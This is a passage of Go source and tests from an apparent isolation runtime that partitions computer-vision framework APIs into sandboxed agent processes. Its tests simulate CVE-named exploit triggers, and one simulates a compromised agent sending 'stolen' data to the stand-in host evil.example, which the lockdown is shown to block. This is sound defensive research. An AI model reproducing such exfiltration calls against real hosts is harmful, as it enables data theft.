// is charged. Entry and exit bracket api.Exec synchronously; the serving
// layer serializes invocations per runtime, and domainMu guards against
// stray concurrent callers in tests.
func (rt *Runtime) domainEnter(a *agent) {
	rt.domainMu.Lock()
	space := rt.Host.Space()
	for _, k := range rt.domainKeys {
		own := k == a.key
		space.SetKeyAccess(k, own, own)
	}
	space.SetKeyAccess(hostCriticalKey, false, false)
	rt.Metrics.AddDomainSwitch()
	rt.K.Clock.Advance(rt.K.Cost.DomainSwitchCost())
}

// domainExit restores the steady-state PKRU (all keys allowed — the host
// is the trusted monitor) and charges the second switch.
func (rt *Runtime) domainExit(a *agent) {
	space := rt.Host.Space()
	for _, k := range rt.domainKeys {
		space.SetKeyAccess(k, true, true)
	}
	space.SetKeyAccess(hostCriticalKey, true, true)
	rt.Metrics.AddDomainSwitch()
	rt.K.Clock.Advance(rt.K.Cost.DomainSwitchCost())
	rt.domainMu.Unlock()
}

// domainCrash classifies a domain-tier failure. A domain whose process
// died did so inside the host's address space: the host goes down with it
// (no fault isolation at this tier), and the error is crash-class so the
// serving layer drains and replaces the shard. Failures that left the
// domain alive are plain application errors.
func (rt *Runtime) domainCrash(a *agent, err error) error {
	if a.process().Alive() {
		return err
	}
	rt.K.Crash(rt.Host, fmt.Sprintf("domain %s died in shared address space", a.name))
	return fmt.Errorf("%w: %s: %v", ipc.ErrAgentCrashed, a.name, err)
}

// domainArgs converts caller values into domain-local values. Host-owned
// objects cross via an in-address-space copy (DomainCopyCost — a plain
// memcpy, no serialization). References to objects another *domain* owns
// are consumed as read-only page grants: the same physical pages, zero
// copy cost charged (the rebuild below is a simulation artifact that keeps
// object identity per table; accounting treats it as a grant). References
// owned by a process-tier agent live in a different address space and pay
// the normal lazy direct-copy cost.
func (rt *Runtime) domainArgs(a *agent, ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
	local := make([]framework.Value, len(args))
	for i, v := range args {
		switch v.Kind {
		case framework.ValObj:
			o, ok := rt.hostCtx.Table.Get(v.Obj)
			if !ok {
				return nil, fmt.Errorf("core: dangling host object %d", v.Obj)
			}
			ref, err := rt.hostCtx.Table.RefFor(v.Obj)
			if err != nil {
				return nil, err
			}
			payload, err := object.PayloadBytes(o)
			if err != nil {
				return nil, err
			}
			no, err := object.Rebuild(ctx.P.Space(), ref, payload)
			if err != nil {
				return nil, err
			}
			rt.Metrics.AddDomainCopy(len(payload))
			rt.K.Clock.Advance(rt.K.Cost.DomainCopyCost(len(payload)))
			id := ctx.Table.Put(no)
			_ = ctx.P.Space().SetKey(no.Region(), a.key)
			local[i] = framework.Obj(id)
		case framework.ValRef:
			ref := v.Ref
			if ref.PID == uint32(ctx.P.PID()) {
				local[i] = framework.Obj(a.resolveID(ref.ID))
				continue
			}
			key := derefKey{pid: ref.PID, id: ref.ID, hash: ref.Hash}
			a.mu.Lock()
			localID, cached := a.deref[key]
			a.mu.Unlock()
			if cached {
				if _, ok := ctx.Table.Get(localID); ok {
					local[i] = framework.Obj(localID)
					continue
				}
			}
			ep, ok := rt.endpoint(ref.PID)
			if !ok {
				return nil, fmt.Errorf("core: no endpoint for pid %d", ref.PID)
			}
			payload, err := rt.loadRemote(ref)
			if err != nil {
				return nil, err
			}
			o, err := object.Rebuild(ctx.P.Space(), ref, payload)
			if err != nil {
				return nil, err
			}
			if ep.space() == ctx.P.Space() {
				// Same address space: a read-only page grant, no copy.
				rt.Metrics.AddDomainGrant(len(payload))
			} else {
				rt.Metrics.AddLazyCopy(len(payload))
				rt.K.Clock.Advance(rt.K.Cost.DirectCopyCost(len(payload)))
			}
			id := ctx.Table.Put(o)
			_ = ctx.P.Space().SetKey(o.Region(), a.key)
			a.mu.Lock()
			a.deref[key] = id
			a.mu.Unlock()
			local[i] = framework.Obj(id)
		default:
			local[i] = v
		}
	}
	return local, nil
}

// domainResults converts domain-local results into handles. Result pages
// are tagged with the domain's key — they are partition state, and other
// domains fault on them until granted. Under LDC the handle is a plain
// reference (the host reads it at steady-state PKRU for free); without
// LDC the payload materializes into the host table via the cheap
// in-address-space copy.
func (rt *Runtime) domainResults(a *agent, ctx *framework.Ctx, results []framework.Value) ([]Handle, []framework.Value, error) {
	handles := make([]Handle, 0, len(results))
	plain := make([]framework.Value, 0, len(results))
	for _, v := range results {
		if v.Kind != framework.ValObj {
			plain = append(plain, v)
			continue
		}
		ref, err := ctx.Table.RefFor(v.Obj)
		if err != nil {
			return nil, nil, err
		}
		o, ok := ctx.Table.Get(v.Obj)
		if ok {
			_ = ctx.P.Space().SetKey(o.Region(), a.key)
		}
		h := Handle{ref: ref, size: ref.Size, kind: ref.Kind}
		if !rt.Config.LazyDataCopy {
			payload, err := object.PayloadBytes(o)
			if err != nil {
				return nil, nil, err
			}
			no, err := object.Rebuild(rt.Host.Space(), ref, payload)
			if err != nil {
				return nil, nil, err
			}
			rt.Metrics.AddDomainCopy(len(payload))
			rt.K.Clock.Advance(rt.K.Cost.DomainCopyCost(len(payload)))
			h = Handle{local: rt.hostCtx.Table.Put(no), materialized: true, size: len(payload), kind: ref.Kind}
		}
		handles = append(handles, h)
	}
	return handles, plain, nil
}

// --- host tier ---------------------------------------------------------------

// hostBoundary runs the partition's APIs in the host process itself — the
// existing in-host execution path, selected by policy instead of by a
// tripped circuit breaker. Zero switch cost, zero copies, zero
// containment: this is the unprotected baseline of the frontier.
type hostBoundary struct{}

func (hostBoundary) Tier() isolation.Tier { return isolation.TierHost }

func (hostBoundary) Spawn(rt *Runtime, a *agent) error {
	a.proc = rt.Host
	a.ctx = rt.hostCtx
	rt.mu.Lock()
	rt.agents[a.id] = a
	rt.mu.Unlock()
	// One-time init still applies (the GUI socket opens from the host);
	// the host endpoint is already registered, with no agent indirection.
	return rt.initAgent(a)
}

func (hostBoundary) Invoke(rt *Runtime, a *agent, api *framework.API, args []framework.Value) ([]Handle, []framework.Value, error) {
	return rt.callInHost(api, args)
}
