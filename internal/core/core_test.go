package core_test

import (
	"bytes"
	"errors"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/ipc"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/trace"
)

// setup builds kernel + registry + categorization + runtime.
func setup(t *testing.T, cfg core.Config) (*kernel.Kernel, *core.Runtime) {
	t.Helper()
	k := kernel.New()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	rt, err := core.New(k, reg, cat, cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(rt.Close)
	return k, rt
}

// writeImage stores a deterministic test image at path.
func writeImage(k *kernel.Kernel, path string, rows, cols int) []byte {
	data := make([]byte, rows*cols)
	for i := range data {
		data[i] = byte(i * 7 % 251)
	}
	enc, _ := simcv.EncodeImage(rows, cols, 1, data)
	k.FS.WriteFile(path, enc)
	return data
}

func TestRuntimeSpawnsFiveProcesses(t *testing.T) {
	k, rt := setup(t, core.Default())
	_ = rt
	// 1 host + 4 agents (§6: "FreePart executes with five processes").
	if got := len(k.Processes()); got != 5 {
		t.Fatalf("%d processes, want 5", got)
	}
	for _, ty := range framework.ConcreteTypes() {
		if _, ok := rt.AgentForType(ty); !ok {
			t.Errorf("no agent for %s", ty)
		}
	}
}

func TestPipelineEndToEnd(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 8, 8)

	imgs, _, err := rt.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		t.Fatal(err)
	}
	if len(imgs) != 1 || imgs[0].Size() != 64 {
		t.Fatalf("imread handles = %v", imgs)
	}
	blurred, _, err := rt.Call("cv.GaussianBlur", imgs[0].Value())
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.imshow", framework.Str("w"), blurred[0].Value()); err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.imwrite", framework.Str("/out.img"), blurred[0].Value()); err != nil {
		t.Fatal(err)
	}
	if !k.FS.Exists("/out.img") {
		t.Fatal("pipeline output missing")
	}
	if k.GUI.Windows() != 1 {
		t.Fatal("imshow should have painted")
	}
	// State machine ended in storing.
	if rt.State() != framework.TypeStoring {
		t.Fatalf("state = %v", rt.State())
	}
}

func TestProtectedMatchesDirect(t *testing.T) {
	// The same pipeline produces byte-identical output under the runtime
	// and the unprotected Direct runner (correctness of interposition).
	run := func(ex core.Caller, k *kernel.Kernel) []byte {
		imgs, _, err := ex.Call("cv.imread", framework.Str("/in.img"))
		if err != nil {
			t.Fatal(err)
		}
		b, _, err := ex.Call("cv.GaussianBlur", imgs[0].Value())
		if err != nil {
			t.Fatal(err)
		}
		e, _, err := ex.Call("cv.erode", b[0].Value())
		if err != nil {
			t.Fatal(err)
		}
		out, err := ex.Fetch(e[0])
		if err != nil {
			t.Fatal(err)
		}
		return out
	}

	k1, rt := setup(t, core.Default())
	writeImage(k1, "/in.img", 8, 8)
	protected := run(rt, k1)

	k2 := kernel.New()
	writeImage(k2, "/in.img", 8, 8)
	direct := core.NewDirect(k2, all.Registry())
	baseline := run(direct, k2)

	if !bytes.Equal(protected, baseline) {
		t.Fatal("protected output differs from direct execution")
	}
}

func TestLDCMovesRefsNotData(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 16, 16)
	imgs, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))
	// Loading-agent object consumed by processing agent: one lazy copy.
	if _, _, err := rt.Call("cv.equalizeHist", imgs[0].Value()); err != nil {
		t.Fatal(err)
	}
	s := rt.Metrics.Snapshot()
	if s.LazyCopies == 0 {
		t.Fatalf("no lazy copies recorded: %v", s)
	}
	if s.LazyFraction() < 0.5 {
		t.Fatalf("lazy fraction = %v", s.LazyFraction())
	}
}

func TestNoLDCShipsThroughHost(t *testing.T) {
	cfg := core.Default()
	cfg.LazyDataCopy = false
	k, rt := setup(t, cfg)
	writeImage(k, "/in.img", 16, 16)
	imgs, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))
	if !imgs[0].Materialized() {
		t.Fatal("without LDC results must materialize in the host")
	}
	if _, _, err := rt.Call("cv.equalizeHist", imgs[0].Value()); err != nil {
		t.Fatal(err)
	}
	s := rt.Metrics.Snapshot()
	if s.LazyCopies != 0 || s.EagerCopies < 2 {
		t.Fatalf("copies = %+v", s)
	}
}

func TestLDCMovesFewerBytes(t *testing.T) {
	pipeline := func(ldc bool) uint64 {
		cfg := core.Default()
		cfg.LazyDataCopy = ldc
		k, rt := setup(t, cfg)
		writeImage(k, "/in.img", 32, 32)
		imgs, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))
		cur := imgs[0]
		for i := 0; i < 5; i++ {
			out, _, err := rt.Call("cv.GaussianBlur", cur.Value())
			if err != nil {
				t.Fatal(err)
			}
			cur = out[0]
		}
		return rt.Metrics.Snapshot().BytesMoved
	}
	with, without := pipeline(true), pipeline(false)
	if with >= without {
		t.Fatalf("LDC bytes (%d) should be < non-LDC bytes (%d)", with, without)
	}
}

func TestTemporalPermissions(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 8, 8)
	imgs, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))

	// Locate the loaded object inside the loading agent.
	space, region, ok := rt.Locate(imgs[0])
	if !ok {
		t.Fatal("cannot locate loaded object")
	}

	// Before the state change the object is writable.
	if perm, mapped := space.PermAt(region.Base); !mapped || !perm.CanWrite() {
		t.Fatalf("pre-transition perm = %v (mapped=%v)", perm, mapped)
	}
	// A processing call transitions Loading -> Processing; the loaded
	// object must become read-only (Fig. 3).
	if _, _, err := rt.Call("cv.GaussianBlur", imgs[0].Value()); err != nil {
		t.Fatal(err)
	}
	perm, _ := space.PermAt(region.Base)
	if perm.CanWrite() {
		t.Fatal("loading-state object should be read-only after transition")
	}
	if rt.Metrics.Snapshot().PermFlips == 0 {
		t.Fatal("no permission flips recorded")
	}
	// Reading still works (the processing agent lazily copies from it).
	if _, err := rt.Fetch(imgs[0]); err != nil {
		t.Fatalf("read-only object should stay readable: %v", err)
	}
}

func TestCriticalDataProtection(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 8, 8)

	// The app allocates critical data (the OMR template) in the host
	// space during initialization and registers it.
	template, err := rt.Host.Space().Alloc(256)
	if err != nil {
		t.Fatal(err)
	}
	if err := rt.Host.Space().Store(template.Base, []byte("coords")); err != nil {
		t.Fatal(err)
	}
	rt.RegisterCritical(template)

	// First framework call moves the state machine off initialization;
	// the template becomes read-only.
	if _, _, err := rt.Call("cv.imread", framework.Str("/in.img")); err != nil {
		t.Fatal(err)
	}
	if err := rt.Host.Space().Store(template.Base, []byte("corrupt")); err == nil {
		t.Fatal("critical data should be read-only after initialization")
	}
	got, _ := rt.Host.Space().Load(template.Base, 6)
	if string(got) != "coords" {
		t.Fatal("critical data changed")
	}
}

func TestExploitContainedToLoadingAgent(t *testing.T) {
	k, rt := setup(t, core.Default())
	k.FS.WriteFile("/evil.img", framework.Trigger("CVE-2017-12597", nil))
	_, _, err := rt.Call("cv.imread", framework.Str("/evil.img"))
	if err == nil {
		t.Fatal("exploit call should error")
	}
	if !rt.Host.Alive() {
		t.Fatal("host must survive")
	}
	for _, ty := range []framework.APIType{framework.TypeProcessing, framework.TypeVisualizing, framework.TypeStoring} {
		p, _ := rt.AgentForType(ty)
		if !p.Alive() {
			t.Fatalf("%s agent should be unaffected", ty)
		}
	}
	// Restart policy already revived the loading agent.
	lp, _ := rt.AgentForType(framework.TypeLoading)
	if !lp.Alive() {
		t.Fatal("loading agent should have been restarted")
	}
	if rt.Metrics.Snapshot().Restarts != 1 {
		t.Fatalf("restarts = %d", rt.Metrics.Snapshot().Restarts)
	}
	// Normal operation resumes.
	writeImage(k, "/ok.img", 4, 4)
	if _, _, err := rt.Call("cv.imread", framework.Str("/ok.img")); err != nil {
		t.Fatalf("post-restart imread: %v", err)
	}
}

func TestNoRestartPolicyLeavesAgentDead(t *testing.T) {
	cfg := core.Default()
	cfg.Restart = false
	k, rt := setup(t, cfg)
	k.FS.WriteFile("/evil.img", framework.Trigger("CVE-2017-14136", nil))
	_, _, _ = rt.Call("cv.imread", framework.Str("/evil.img"))
	lp, _ := rt.AgentForType(framework.TypeLoading)
	if lp.Alive() {
		t.Fatal("agent should stay dead without restart policy")
	}
	// Subsequent loads fail, but the host and other agents live on
	// (§5.4.1: the drone keeps flying).
	writeImage(k, "/ok.img", 4, 4)
	if _, _, err := rt.Call("cv.imread", framework.Str("/ok.img")); !errors.Is(err, ipc.ErrAgentCrashed) {
		t.Fatalf("err = %v", err)
	}
	if !rt.Host.Alive() {
		t.Fatal("host must survive")
	}
}

func TestSyscallLockdownBlocksExfiltration(t *testing.T) {
	cfg := core.Default()
	cfg.AppAPIs = []string{"cv.imread", "cv.GaussianBlur", "cv.imshow", "cv.imwrite"}
	k, rt := setup(t, cfg)
	// Simulate a compromised processing agent attempting to exfiltrate.
	dp, _ := rt.AgentForType(framework.TypeProcessing)
	err := k.NetSend(dp, "evil.example", []byte("stolen"))
	if !errors.Is(err, kernel.ErrSyscallDenied) {
		t.Fatalf("exfiltration should be denied, got %v", err)
	}
	if dp.Alive() {
		t.Fatal("violating agent should be killed")
	}
	if len(k.Net.SentTo("evil.example")) != 0 {
		t.Fatal("no bytes must leave")
	}
}

func TestVisualizingAgentInitThenLockdown(t *testing.T) {
	cfg := core.Default()
	cfg.AppAPIs = []string{"cv.imshow"}
	k, rt := setup(t, cfg)
	viz, _ := rt.AgentForType(framework.TypeVisualizing)
	// The GUI socket was connected during init (allowed pre-lockdown).
	if got := viz.SyscallCounts()[kernel.SysConnect]; got != 1 {
		t.Fatalf("connect count = %d", got)
	}
	// Post-lockdown connect attempts die.
	if err := k.NetConnect(viz, "evil.example"); !errors.Is(err, kernel.ErrSyscallDenied) {
		t.Fatalf("post-lockdown connect = %v", err)
	}
}

func TestNeutralAPIFollowsState(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 8, 8)
	imgs, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))
	// cvtColor right after a load runs in the loading agent (§4.2.2), so
	// its result object lives in the loading agent's process.
	loading, _ := rt.AgentForType(framework.TypeLoading)
	gray, _, err := rt.Call("cv.cvtColor", imgs[0].Value())
	if err != nil {
		t.Fatal(err)
	}
	if gray[0].OwnerPID() != uint32(loading.PID()) {
		t.Fatalf("cvtColor after imread ran in pid %d, want loading agent %d", gray[0].OwnerPID(), loading.PID())
	}
	// After a processing call, cvtColor follows to the processing agent.
	blurred, _, _ := rt.Call("cv.GaussianBlur", gray[0].Value())
	dp, _ := rt.AgentForType(framework.TypeProcessing)
	regray, _, err := rt.Call("cv.cvtColor", blurred[0].Value(), framework.Str("GRAY2BGR"))
	if err != nil {
		t.Fatal(err)
	}
	if regray[0].OwnerPID() != uint32(dp.PID()) {
		t.Fatalf("cvtColor after blur ran in pid %d, want processing agent %d", regray[0].OwnerPID(), dp.PID())
	}
}

func TestCheckpointRestoreAcrossRestart(t *testing.T) {
	k, rt := setup(t, core.Default())
	// A stateful Kalman filter accumulates state in the processing agent.
	st, _, err := rt.Call("torch.tensor", framework.Int64(4), framework.Float64(0))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.KalmanFilter.correct", st[0].Value(), framework.Float64(10), framework.Float64(10)); err != nil {
		t.Fatal(err)
	}
	// Crash the processing agent (fault injection).
	dp, _ := rt.AgentForType(framework.TypeProcessing)
	k.Crash(dp, "injected fault")
	// The next call fails but the supervisor auto-restarts the agent.
	if _, _, err = rt.Call("cv.KalmanFilter.predict", st[0].Value()); err == nil {
		t.Fatal("call into crashed agent should fail")
	}
	if err := rt.RestartDead(); err != nil {
		t.Fatal(err)
	}
	if !dp.Alive() {
		t.Fatal("processing agent should be alive again")
	}
	// The checkpointed state tensor is restored and the old ref resolves
	// through the remap: correct(10,10) on zeros gave x=5, vx=5, so
	// predict now returns 10.
	_, plain, err := rt.Call("cv.KalmanFilter.predict", st[0].Value())
	if err != nil {
		t.Fatalf("predict after restore: %v", err)
	}
	if len(plain) != 2 || plain[0].Float != 10 {
		t.Fatalf("predict after restore = %v, want x=10", plain)
	}
}

func TestCustomPartitions(t *testing.T) {
	cfg := core.Default()
	cfg.Partitions = 8
	cfg.PartitionOf = func(api *framework.API) int {
		// Spread APIs over 8 partitions by name hash.
		h := 0
		for _, c := range api.Name {
			h = h*31 + int(c)
		}
		if h < 0 {
			h = -h
		}
		return h % 8
	}
	k, rt := setup(t, cfg)
	writeImage(k, "/in.img", 8, 8)
	if got := len(k.Processes()); got != 9 { // host + 8
		t.Fatalf("%d processes, want 9", got)
	}
	imgs, _, err := rt.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.GaussianBlur", imgs[0].Value()); err != nil {
		t.Fatal(err)
	}
}

func TestUnknownAPI(t *testing.T) {
	_, rt := setup(t, core.Default())
	if _, _, err := rt.Call("cv.nonexistent"); err == nil {
		t.Fatal("unknown API should fail")
	}
}

func TestScalarResultsPassThrough(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 8, 8)
	imgs, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))
	_, plain, err := rt.Call("cv.countNonZero", imgs[0].Value())
	if err != nil {
		t.Fatal(err)
	}
	if len(plain) != 1 || plain[0].Kind != framework.ValInt {
		t.Fatalf("plain = %v", plain)
	}
}

func TestHostObjectsDeepCopyToAgents(t *testing.T) {
	k, rt := setup(t, core.Default())
	_ = k
	// App-created data in the host space passes by deep copy; mutating the
	// agent-side copy cannot touch the host original (§4.3).
	hid, hm, err := rt.HostCtx().NewMatFromBytes(2, 2, 1, []byte{1, 2, 3, 4})
	if err != nil {
		t.Fatal(err)
	}
	out, _, err := rt.Call("cv.bitwise_not", framework.Obj(hid))
	if err != nil {
		t.Fatal(err)
	}
	inverted, _ := rt.Fetch(out[0])
	if inverted[0] != 254 {
		t.Fatalf("inverted = %v", inverted)
	}
	orig, _ := hm.At(0, 0, 0)
	if orig != 1 {
		t.Fatal("host original must be untouched")
	}
}

func TestDirectRunnerBasics(t *testing.T) {
	k := kernel.New()
	writeImage(k, "/in.img", 8, 8)
	d := core.NewDirect(k, all.Registry())
	imgs, _, err := d.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		t.Fatal(err)
	}
	if len(imgs) != 1 || !imgs[0].Materialized() {
		t.Fatalf("direct handles = %v", imgs)
	}
	payload, err := d.Fetch(imgs[0])
	if err != nil || len(payload) != 64 {
		t.Fatalf("fetch = %d bytes, %v", len(payload), err)
	}
	if got := len(k.Processes()); got != 1 {
		t.Fatalf("direct runner spawned %d processes, want 1", got)
	}
}

func TestHybridCategorizationDrivenRuntime(t *testing.T) {
	// The runtime works identically when fed a trace-driven categorization
	// instead of the static one.
	k := kernel.New()
	reg := all.Registry()
	runner := trace.NewRunner(reg)
	trace.RunSuite(k, runner)
	cat := analysis.New(reg, runner.Recorder).Categorize()

	k2 := kernel.New()
	rt, err := core.New(k2, reg, cat, core.Default())
	if err != nil {
		t.Fatal(err)
	}
	defer rt.Close()
	writeImage(k2, "/in.img", 8, 8)
	if _, _, err := rt.Call("cv.imread", framework.Str("/in.img")); err != nil {
		t.Fatal(err)
	}
}
