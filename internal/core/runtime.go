package core

import (
	"errors"
	"fmt"
	"sort"
	"sync"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/ipc"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/metrics"
	"freepart.dev/freepart/internal/object"
	"freepart.dev/freepart/internal/vclock"
)

// endpoint locates the space and table behind a process id, for lazy
// cross-agent copies.
type endpoint struct {
	space func() *mem.AddressSpace
	table func() *object.Table
	agent *agent
}

// definedObject tracks one object created during a framework state, for
// temporal permission enforcement (§4.4.3).
type definedObject struct {
	space  *mem.AddressSpace
	region mem.Region
}

// exemptKey identifies an object exempt from temporal protection: state
// owned by a stateful API must stay writable across framework states
// (§A.2.4 — the API mutates it on every call).
type exemptKey struct {
	space *mem.AddressSpace
	base  mem.Addr
}

// Runtime is the FreePart loader + dynamic library: it owns the host
// process, the agent processes, and every security policy.
type Runtime struct {
	K       *kernel.Kernel
	Reg     *framework.Registry
	Cat     *analysis.Categorization
	Config  Config
	Metrics *metrics.Counters
	// Tracer is attached to every execution context when set.
	Tracer framework.Tracer
	// OnExploit overrides the exploit behaviour inside agents (the attack
	// layer installs payload semantics here).
	OnExploit framework.ExploitFunc

	Host    *kernel.Process
	hostCtx *framework.Ctx

	mu        sync.Mutex
	agents    map[int]*agent
	endpoints map[uint32]*endpoint
	state     framework.APIType
	defined   map[framework.APIType][]definedObject
	exempt    map[exemptKey]bool
	analyzer  *analysis.Analyzer
	policies  map[framework.APIType]*analysis.AgentPolicy

	// ckptLog, when set, receives a write-through copy of every stateful-API
	// checkpoint under the session in scope — the portable store shard
	// failover restores from. ckptSession is the serving session the current
	// invocation belongs to (-1 when none); sessions serialize per shard, so
	// the scope is stable for the whole invocation.
	ckptLog     *object.CheckpointLog
	ckptSession int

	// Domain-tier state (internal/isolation): the protection keys handed to
	// MPK-domain partitions in spawn order, the next free key, and whether
	// the policy uses any domain at all (when true, RegisterCritical also
	// tags host objects with hostCriticalKey). domainMu serializes the
	// PKRU-narrowing window of a domain-tier call. All written during New,
	// except domainMu.
	domainMu      sync.Mutex
	domainKeys    []mem.Key
	nextDomainKey mem.Key
	usesDomains   bool
}

// agentPartition computes the default partition id of an API type.
func agentPartition(t framework.APIType) int {
	switch t {
	case framework.TypeLoading:
		return 0
	case framework.TypeProcessing:
		return 1
	case framework.TypeVisualizing:
		return 2
	case framework.TypeStoring:
		return 3
	default:
		return 1
	}
}

// New builds a runtime: spawns the host and agent processes, wires RPC
// connections, runs one-time agent initialization, and locks down
// syscalls.
func New(k *kernel.Kernel, reg *framework.Registry, cat *analysis.Categorization, cfg Config) (*Runtime, error) {
	rt := &Runtime{
		K: k, Reg: reg, Cat: cat, Config: cfg,
		Metrics:     metrics.New(),
		agents:      make(map[int]*agent),
		endpoints:   make(map[uint32]*endpoint),
		state:       framework.TypeUnknown, // initialization state
		defined:     make(map[framework.APIType][]definedObject),
		exempt:      make(map[exemptKey]bool),
		analyzer:    analysis.New(reg, nil),
		ckptSession: -1,
	}
	rt.Host = k.Spawn("host")
	rt.hostCtx = framework.NewCtx(k, rt.Host)
	rt.endpoints[uint32(rt.Host.PID())] = &endpoint{
		space: rt.Host.Space,
		table: func() *object.Table { return rt.hostCtx.Table },
	}
	rt.usesDomains = cfg.Isolation != nil && cfg.Isolation.HasTier(isolation.TierDomain)
	if cfg.Isolation != nil && (rt.usesDomains || cfg.Isolation.HasTier(isolation.TierHost)) {
		// Domain- and host-tier partitions execute APIs in contexts that
		// share the host's fate; exploit handling must route through the
		// runtime there too. Guarded so the nil-policy (and pure-process
		// "paper") path keeps the host context untouched, byte for byte.
		rt.hostCtx.OnExploit = rt.exploit
	}

	if cfg.RestrictSyscalls {
		rt.policies = rt.analyzer.DeriveSyscallPolicy(cat, cfg.AppAPIs)
	}

	// Spawn in sorted partition order so PIDs — and everything derived
	// from them — are deterministic across runs.
	partitions := rt.partitionSet()
	ids := make([]int, 0, len(partitions))
	for id := range partitions {
		ids = append(ids, id)
	}
	sort.Ints(ids)
	for _, id := range ids {
		if err := rt.spawnAgent(id, partitions[id]); err != nil {
			return nil, err
		}
	}

	// Arm the kernel injector only after every agent is up: chaos models
	// steady-state faults, not boot failures (those would abort New).
	if cfg.Chaos != nil {
		cfg.Chaos.Bind(k.Clock, rt.Metrics)
		k.SetInjector(cfg.Chaos)
	}
	return rt, nil
}

// partitionSet computes partition id -> homed types. The default is the
// paper's four type partitions; custom PartitionOf functions (Fig. 4)
// produce K partitions whose type sets derive from the APIs they hold.
func (rt *Runtime) partitionSet() map[int]map[framework.APIType]bool {
	out := make(map[int]map[framework.APIType]bool)
	if rt.Config.PartitionOf == nil {
		for _, t := range framework.ConcreteTypes() {
			out[agentPartition(t)] = map[framework.APIType]bool{t: true}
		}
		return out
	}
	for i := 0; i < rt.Config.Partitions; i++ {
		out[i] = make(map[framework.APIType]bool)
	}
	for _, api := range rt.Reg.All() {
		id := rt.Config.PartitionOf(api)
		if _, ok := out[id]; !ok {
			out[id] = make(map[framework.APIType]bool)
		}
		out[id][rt.Cat.TypeOf(api.Name)] = true
	}
	return out
}

// spawnAgent creates and initializes one partition: the bare agent record
// is built here, then the boundary the policy picked brings it up —
// process spawn + RPC wiring for the process tier, protection-key
// allocation for the domain tier, aliasing into the host for the host
// tier.
func (rt *Runtime) spawnAgent(id int, types map[framework.APIType]bool) error {
	name := fmt.Sprintf("agent:%d", id)
	if len(types) == 1 {
		for t := range types {
			name = "agent:" + t.Long()
		}
	}
	a := &agent{
		id: id, name: name, types: types,
		remap:       make(map[uint64]uint64),
		canon:       make(map[uint64]uint64),
		checkpoints: make(map[uint64]checkpoint),
		deref:       make(map[derefKey]uint64),
	}
	a.boundary = rt.boundaryFor(types)
	return a.boundary.Spawn(rt, a)
}

// initAgent performs the one-time initialization syscalls that the
// steady-state filter forbids (§4.4.1): the visualizing agent opens its
// GUI socket before lockdown.
func (rt *Runtime) initAgent(a *agent) error {
	if a.types[framework.TypeVisualizing] {
		return rt.K.GUIConnect(a.process())
	}
	return nil
}

// exploit is the default in-agent exploit behaviour when the attack layer
// installs nothing: crash the hosting process.
func (rt *Runtime) exploit(ctx *framework.Ctx, cve string, payload []byte) error {
	if rt.OnExploit != nil {
		return rt.OnExploit(ctx, cve, payload)
	}
	rt.K.Crash(ctx.P, fmt.Sprintf("%s exploited", cve))
	return fmt.Errorf("%w: %s (agent crashed)", framework.ErrExploited, cve)
}

// endpoint looks up the endpoint for a pid.
func (rt *Runtime) endpoint(pid uint32) (*endpoint, bool) {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	ep, ok := rt.endpoints[pid]
	return ep, ok
}

// agentFor picks the agent that homes an API, honoring type-neutral
// context-following (§4.2.2) and custom partition functions.
func (rt *Runtime) agentFor(api *framework.API) (*agent, error) {
	if rt.Config.PartitionOf != nil {
		id := rt.Config.PartitionOf(api)
		rt.mu.Lock()
		a, ok := rt.agents[id]
		rt.mu.Unlock()
		if !ok {
			return nil, fmt.Errorf("core: no partition %d for %s", id, api.Name)
		}
		return a, nil
	}
	t := rt.Cat.TypeOf(api.Name)
	if rt.Cat.Neutral[api.Name] || api.Neutral {
		// Run neutral APIs wherever the pipeline currently is.
		rt.mu.Lock()
		cur := rt.state
		rt.mu.Unlock()
		if cur != framework.TypeUnknown {
			t = cur
		} else {
			t = framework.TypeProcessing
		}
	}
	rt.mu.Lock()
	a, ok := rt.agents[agentPartition(t)]
	rt.mu.Unlock()
	if !ok {
		return nil, fmt.Errorf("core: no agent for type %s", t)
	}
	return a, nil
}

// Agents returns the agent processes in partition order (for inspection).
func (rt *Runtime) Agents() []*kernel.Process {
	rt.mu.Lock()
	ids := make([]int, 0, len(rt.agents))
	for id := range rt.agents {
		ids = append(ids, id)
	}
	sort.Ints(ids)
	agents := make([]*agent, 0, len(ids))
	for _, id := range ids {
		agents = append(agents, rt.agents[id])
	}
	rt.mu.Unlock()
	out := make([]*kernel.Process, 0, len(agents))
	for _, a := range agents {
		out = append(out, a.process())
	}
	return out
}

// AgentForType returns the process currently homing the given API type.
func (rt *Runtime) AgentForType(t framework.APIType) (*kernel.Process, bool) {
